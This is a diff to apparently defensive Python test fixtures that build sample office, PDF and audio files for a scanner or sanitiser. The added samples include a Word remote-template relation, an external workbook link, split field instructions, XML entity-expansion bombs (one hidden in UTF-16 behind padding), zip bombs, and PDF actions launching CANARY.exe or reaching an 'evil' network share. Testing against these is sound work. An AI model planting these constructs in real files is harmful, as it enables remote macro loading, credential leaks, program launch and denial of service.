@@ -73,13 +73,14 @@ def photo() -> bytes:
 def sound(tagged: bool = False) -> bytes:  # noqa: FBT001, FBT002 - a test reads it by name
     """Return what an MP3 file begins with, perhaps with a tag that names somebody."""
     tag = b"ID3\x03\x00\x00\x00\x00\x00\x15" + b"TPE1\x00\x00\x00\x0b\x00\x00\x00Ana Perez\x00"
-    return (tag if tagged else b"") + b"\xff\xfb\x90\x00" * 400
+    # 128 kbit/s at 44.1 kHz: 417 bytes each.
+    return (tag if tagged else b"") + (b"\xff\xfb\x90\x00" + b"\x00" * 413) * 8
 
 
 def open_document(**parts: bytes) -> bytes:
     """Return an OpenDocument text, with further parts."""
     mimetype = b"application/vnd.oasis.opendocument.text"
-    texts = {"mimetype": mimetype, "content.xml": b"<office:document-content/>", "META-INF/manifest.xml": b"<m/>"}
+    texts = {"mimetype": mimetype, "content.xml": b"<content/>", "META-INF/manifest.xml": b"<m/>"}
     return archive(texts | parts)
 
 
@@ -104,30 +105,55 @@ def with_macros() -> bytes:
     return with_parts(word(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macros"})
 
 
-def with_remote_template() -> bytes:
+def relation(kind: str, target: str, *, mode: str = "External", prefix: str = "", encoding: str = "utf-8") -> bytes:
+    """Return a part that relates another one to something, in any of the ways that XML can be written."""
+    tag, colon = f"{prefix}:" if prefix else "", f":{prefix}" if prefix else ""
+    return (
+        f'<?xml version="1.0" encoding="{encoding}"?>'
+        f'<{tag}Relationships xmlns{colon}="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<{tag}Relationship Id="a&gt;r1" Target="{target}" TargetMode="{mode}" '
+        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></{tag}Relationships>'
+    ).encode(encoding)
+
+
+def relating(kind: str, target: str, **written: str) -> bytes:
+    """Return a Word file with a relation to something."""
+    return with_parts(word(), {"word/_rels/footer1.xml.rels": relation(kind, target, **written)})
+
+
+def with_template(target: str) -> bytes:
     """Return a Word file that loads its template, and the template's macros, from elsewhere."""
-    relation = (
-        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
-        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
-    )
-    return with_parts(word(), {"word/_rels/settings.xml.rels": relation})
+    namespace = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+    settings = f'<w:settings xmlns:w="{namespace}" xmlns:r="r"><w:attachedTemplate r:id="r1"/><w:zoom/></w:settings>'
+    parts = {
+        "word/settings.xml": settings.encode(),
+        "word/_rels/settings.xml.rels": relation("attachedTemplate", target),
+    }
+    return with_parts(word(), parts)
 
 
 def with_external_workbook() -> bytes:
     """Return an Excel file that reads from another one."""
-    relation = (
-        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
-        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
-        b'Target="file:///c:/secret.xlsx" TargetMode="External"/></Relationships>'
-    )
-    return with_parts(workbook(), {"xl/externalLinks/_rels/externalLink1.xml.rels": relation})
+    link = relation("externalLinkPath", "file:///c:/secret.xlsx")
+    return with_parts(workbook(), {"xl/externalLinks/_rels/externalLink1.xml.rels": link})
+
+
+def asking(*instructions: str) -> bytes:
+    """Return a Word file with a field whose instruction is written in pieces."""
+    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
+    return with_parts(word(), {"word/document.xml": f'<w:document xmlns:w="w">{runs}</w:document>'.encode()})
 
 
 def laughing() -> bytes:
     """Return a Word file whose text would unfold to billions of letters."""
     text = b'<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document>&b;</w:document>'
     return with_parts(word(), {"word/document.xml": text})
+
+
+def laughing_late() -> bytes:
+    """Return the same, behind a long comment and in an encoding that hides it from a search."""
+    text = f'<!--{" " * 9000}--><!DOCTYPE w [<!ENTITY a "ha">]><w>&a;</w>'
+    return with_parts(word(), {"word/document.xml": text.encode("utf-16")})
 
 
 def bomb() -> bytes:
@@ -139,6 +165,11 @@ def nested_bomb() -> bytes:
     """Return an archive in an archive."""
     inner = archive({"a.txt": b"\x00" * 10_000_000})
     return with_parts(word(), {"word/embeddings/inner.zip": inner})
+
+
+def holding(name: str, content: bytes) -> bytes:
+    """Return a presentation that holds a file."""
+    return with_parts(slides(), {f"ppt/embeddings/{name}": content})
 
 
 def of_many_parts() -> bytes:
@@ -177,6 +208,27 @@ def signed_by_ana(document: pikepdf.Pdf) -> None:
     document.docinfo["/Author"] = "Ana Perez"
     with document.open_metadata() as notes:
         notes["dc:creator"] = ["Ana Perez"]
+
+
+def annotated(document: pikepdf.Pdf) -> None:
+    """Put Ana's note into the margin of a PDF, and a field of a form beside it."""
+    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], T="Ana Perez")
+    field = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Rect=[0, 0, 9, 9], T="employer")
+    field = document.make_indirect(field)
+    document.Root["/AcroForm"] = pikepdf.Dictionary(Fields=[field])
+    document.pages[0].obj["/Annots"] = pikepdf.Array([note, field])
+
+
+def leading(document: pikepdf.Pdf) -> None:
+    """Give a PDF links to a program, to a file in a network and to a page, as actions that look like something else."""
+    actions = [
+        pikepdf.Dictionary(S=pikepdf.Name.URI, URI="file:///c:/windows/CANARY.exe"),
+        pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="\\\\evil\\CANARY.pdf", D=[0]),
+        pikepdf.Dictionary(S=pikepdf.Name.Launch, F="CANARY.exe", P=1, Type=pikepdf.Name.StructElem),
+        pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://www.ilo.org/"),
+    ]
+    box = {"Type": pikepdf.Name.Annot, "Subtype": pikepdf.Name.Link, "Rect": [0, 0, 9, 9]}
+    document.pages[0].obj["/Annots"] = pikepdf.Array([pikepdf.Dictionary(**box, A=action) for action in actions])
 
 
 def looping() -> bytes:
